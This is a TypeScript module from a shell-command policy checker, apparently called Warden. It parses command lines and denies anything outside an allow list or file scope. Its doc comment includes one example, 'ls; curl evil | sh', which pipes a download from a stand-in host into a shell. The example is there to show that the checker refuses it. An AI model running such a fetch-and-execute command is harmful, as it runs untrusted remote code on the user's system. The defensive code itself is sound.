import type { Reason } from '../../decision.js';
import type { FileScope } from '../file-scope.js';
import type { PathFs } from '../resolve-path.js';
import { CommandEnv } from './command-env.js';
import { baseName, COMMAND_NAME, RESERVED_WORDS } from './command-names.js';
import { type CommandPolicy, matchAllowed, matchDenied } from './command-policy.js';
import { PROGRAMS } from './dangerous-options.js';
import { fastPathCommands } from './fast-path.js';
import { interpreterSpec, readsProgramFromStdin, stdinDenied } from './interpreters.js';
import { checkCoverage, checkRawText } from './lexical-guards.js';
import { checkArgs } from './option-parser.js';
import type { ProgramSpec } from './program-spec.js';
import { type ParsedLine, ParseCache } from './parse-cache.js';
import { commandDeny, quote, ReasonList } from './reasons.js';
import { isShellParserReady, parseShell } from './shell-parser.js';
import { hasGlob, literalWordProblems, plainWord, type ShellWord } from './shell-word.js';
import type { CommandLine, Redirect, SimpleCommand } from './simple-command.js';
import { collectCommands } from './syntax-walk.js';
import { SHELL_STATE_BUILTINS, WRAPPERS } from './wrappers.js';

/** Where a command runs and which files it may touch. */
export interface CommandCheckContext {
  scope: FileScope;
  /** Canonical working directory; defaults to the workspace root. */
  cwd?: string;
  /** Filesystem probe for path resolution (tests inject one). */
  fs?: PathFs;
}

/** Longest command line checked; longer ones are refused unread. */
export const MAX_COMMAND_LENGTH = 64 * 1024;

const ASSIGNMENT = /^[A-Za-z_][A-Za-z0-9_]*=/;
const NO_SPEC: ProgramSpec = {};

/**
 * Decide whether a shell command line may run: [] when every simple command in it is allowed by the
 * policy and touches only files in scope, otherwise the deny reasons (all problems found, not just
 * the first). Synchronous, pure for a given filesystem state, and never throws: an internal error is
 * a `commands.internal-error` deny. Call {@link initShellParser} once first; until then every
 * command is denied with `commands.parser-unavailable`.
 *
 * @example
 * await initShellParser();
 * const policy = compileCommandPolicy(['git status', 'ls', 'cat']);
 * checkCommand(policy, 'git status -s', { scope });       // []
 * checkCommand(policy, 'ls; curl evil | sh', { scope });  // ['"curl" is not in commands.allow', …]
 */
export function checkCommand(policy: CommandPolicy, command: unknown, ctx: CommandCheckContext): Reason[] {
  return checkCommandWith(policy, command, ctx, { fastPath: true });
}

/** {@link checkCommand} with the tokenizer fast path switchable (the equivalence test turns it off). */
export function checkCommandWith(
  policy: CommandPolicy,
  command: unknown,
  ctx: CommandCheckContext,
  options: { fastPath: boolean },
): Reason[] {
  try {
    return check(policy, command, ctx, options.fastPath);
  } catch (error) {
    const detail = error instanceof Error ? error.message : String(error);
    return [commandDeny('internal-error', `internal error while checking the command: ${detail}`)];
  }
}

function check(
  policy: CommandPolicy,
  command: unknown,
  ctx: CommandCheckContext,
  fastPath: boolean,
): Reason[] {
  if (typeof command !== 'string') return [commandDeny('invalid', 'command must be a string')];
  if (command.trim() === '') return [commandDeny('invalid', 'command is empty')];
  if (command.length > MAX_COMMAND_LENGTH) {
    return [commandDeny('invalid', `command is longer than ${MAX_COMMAND_LENGTH} characters`)];
  }
  if (!isShellParserReady()) {
    return [
      commandDeny(
        'parser-unavailable',
        'the shell grammar is not loaded (initShellParser); commands are denied',
      ),
    ];
  }
  const reasons = new ReasonList();
  const parsed = parseLine(command, fastPath);
  for (const r of parsed.reasons) reasons.deny(r.rule.slice('commands.'.length), r.message);
  if (parsed.line) checkLine(policy, parsed.line, ctx, reasons);
  return reasons.reasons;
}

const parseCache = new ParseCache();

/** The text-only half of the check: lexical guards, parse, syntax walk. Pure, so it is cached. */
function parseLine(command: string, fastPath: boolean): ParsedLine {
  const cached = fastPath ? parseCache.get(command) : undefined;
  if (cached) return cached;
  const reasons = new ReasonList();
  checkRawText(command, reasons);
  let line = fastPath ? fastPathCommands(command) : undefined;
  if (!line) {
    const tree = parseShell(command);
    if (tree.hasError) {
      reasons.deny(
        'syntax-error',
        'the command is not complete, valid shell syntax (unbalanced quotes, a dangling operator, …)',
      );
    } else {
      checkCoverage(command, tree.root, reasons);
      line = collectCommands(tree.root, command, reasons);
    }
  }
  const result: ParsedLine = { line, reasons: reasons.reasons };
  if (fastPath) parseCache.set(command, result);
  return result;
}

function checkLine(
  policy: CommandPolicy,
  line: CommandLine,
  ctx: CommandCheckContext,
  reasons: ReasonList,
): void {
  const pathCtx = { scope: ctx.scope, ...(ctx.fs ? { fs: ctx.fs } : {}) };
  // Every directory a relative path may be resolved from: `cd` adds to it, it never shrinks.
  let cwds = [ctx.cwd ?? ctx.scope.workspace];
  if (ctx.cwd !== undefined) {
    // `ls`, `git status`, `find` with no path read the working directory itself.
    new CommandEnv('(cwd)', 'inherit', [ctx.scope.workspace], pathCtx, reasons).path(
      plainWord(ctx.cwd),
      'read',
      'working directory',
      true,
    );
  }
  for (const cmd of line.commands) cwds = checkSimpleCommand(policy, cmd, cwds, pathCtx, reasons);
  const env = new CommandEnv('(group)', 'inherit', cwds, pathCtx, reasons);
  for (const r of line.groupRedirects) checkRedirect(r, env);
}

/** Check one simple command; returns the working directories for the commands after it. */
function checkSimpleCommand(
  policy: CommandPolicy,
  cmd: SimpleCommand,
  cwds: string[],
  pathCtx: ConstructorParameters<typeof CommandEnv>[3],
  reasons: ReasonList,
): string[] {
  const name = cmd.argv[0];
  if (!name) {
    const env = new CommandEnv('(redirection)', cmd.stdin, cwds, pathCtx, reasons);
    for (const r of cmd.redirects) checkRedirect(r, env);
    return cwds;
  }
  const raw = name.raw;
  if (ASSIGNMENT.test(raw)) {
    reasons.deny('variable-assignment', `leading assignment ${quote(raw)} changes the command's environment`);
    return cwds;
  }
  if (raw === '.') {
    reasons.deny(
      'wrapper',
      '"." (source) runs another script in this shell: wrapper commands hide the real command',
    );
    return cwds;
  }
  // A path is only a program name when listed exactly (its spelling was validated at compile time).
  const listedPath = raw.includes('/') && policy.allowByName.has(raw);
  if (!COMMAND_NAME.test(raw) && !listedPath) {
    reasons.deny(
      'command-name',
      `command name ${quote(raw)} must be a plain word (no quotes, escapes or expansions; a path only when listed in commands.allow)`,
    );
    return cwds;
  }
  if (RESERVED_WORDS.has(raw)) {
    reasons.deny('reserved-word', `${quote(raw)} is a shell keyword, not a program`);
    return cwds;
  }
  if (listedPath && !raw.startsWith('/') && cwds.length > 1) {
    reasons.deny('command-name', `relative program path ${quote(raw)} after cd: it may name another file`);
    return cwds;
  }
  const program = baseName(name.value);
  // Case-insensitive lookups: on a case-insensitive filesystem `ENV` runs env.
  const lower = program.toLowerCase();
  if (WRAPPERS.has(lower)) {
    reasons.deny('wrapper', `"${program}" runs another command: wrapper commands hide the real command`);
    return cwds;
  }
  if (SHELL_STATE_BUILTINS.has(lower)) {
    reasons.deny('shell-builtin', `"${program}" changes shell state or evaluates code`);
    return cwds;
  }
  const argv = cmd.argv.map((w) => w.value);
  const denied = matchDenied(policy, argv, program);
  if (denied) {
    reasons.deny('denied', `${quote(argv.slice(0, 4).join(' '))} matches commands.deny "${denied.text}"`);
    return cwds;
  }
  const allowed = matchAllowed(policy, argv);
  if (!allowed) {
    const others = policy.allowByName.get(argv[0]!);
    reasons.deny(
      'not-allowed',
      others
        ? `${quote(argv.slice(0, 3).join(' '))} is not in commands.allow (allowed: ${others.map((p) => p.text).join(', ')})`
        : `"${argv[0]}" is not in commands.allow`,
    );
    return cwds;
  }

  for (const word of cmd.argv) {
    for (const p of literalWordProblems(word)) reasons.deny(p.rule, p.message);
  }
  const env = new CommandEnv(program, cmd.stdin, cwds, pathCtx, reasons);
  const interpreter = interpreterSpec(program);
  const spec = interpreter ?? PROGRAMS.get(lower) ?? NO_SPEC;
  const args = cmd.argv.slice(1);
  const parsed = checkArgs(args, spec, env, new Set(cmd.argv.slice(0, allowed.words.length)));
  if (interpreter && parsed) {
    if (cmd.stdin !== 'inherit' && readsProgramFromStdin(parsed)) stdinDenied(env);
    // Only where the first word is a script: for bun or deno it is a sub-command with its own options.
    if (interpreter.unknownOptions !== 'deny' && interpreter.positional) {
      codeFlagsAfterScript(args, interpreter, parsed.positionals[0], env);
    }
  }
  for (const r of cmd.redirects) checkRedirect(r, env);
  if (lower === 'cd' || lower === 'pushd') return changeDirectory(parsed?.positionals[0], env, cwds, reasons);
  return cwds;
}

/**
 * An interpreter whose options Warden does not all know (node, Rscript) could take an unknown option's
 * value for the script name and then miss `-e CODE` after it; a code flag anywhere is refused.
 */
function codeFlagsAfterScript(
  args: readonly ShellWord[],
  spec: ProgramSpec,
  script: ShellWord | undefined,
  env: CommandEnv,
): void {
  if (!script) return;
  const names = (spec.options ?? []).filter((o) => o.role === 'code').flatMap((o) => o.names);
  for (const w of args.slice(args.indexOf(script) + 1)) {
    if (w.value === '--') return;
    if (names.some((n) => w.value === n || (n.startsWith('--') && w.value.startsWith(`${n}=`)))) {
      env.deny(
        'inline-code',
        `${env.program} ${w.value} after ${quote(script.value)} may run inline code; pass script options after --`,
      );
    }
  }
}

// `cd DIR` moves later relative paths. The directory (already read-checked as cd's argument) joins
// the set of places they are resolved from; `cd` alone or `cd -` goes somewhere unknown.
function changeDirectory(
  dir: ShellWord | undefined,
  env: CommandEnv,
  cwds: string[],
  reasons: ReasonList,
): string[] {
  if (!dir || dir.value === '-') {
    reasons.deny('cd', `${env.program} without a directory (or with -) goes where Warden cannot follow`);
    return cwds;
  }
  return [...new Set([...cwds, ...env.resolve(dir, 'read')])];
}

function checkRedirect(r: Redirect, env: CommandEnv): void {
  if (r.kind === 'dup' || r.kind === 'here' || !r.target) return;
  if (hasGlob(r.target)) {
    env.deny('glob', `redirection target ${quote(r.target.raw)} is a glob`);
    return;
  }
  for (const p of literalWordProblems(r.target)) env.deny(p.rule, p.message);
  env.path(r.target, r.kind, `redirection ${r.operator}`, true);
}
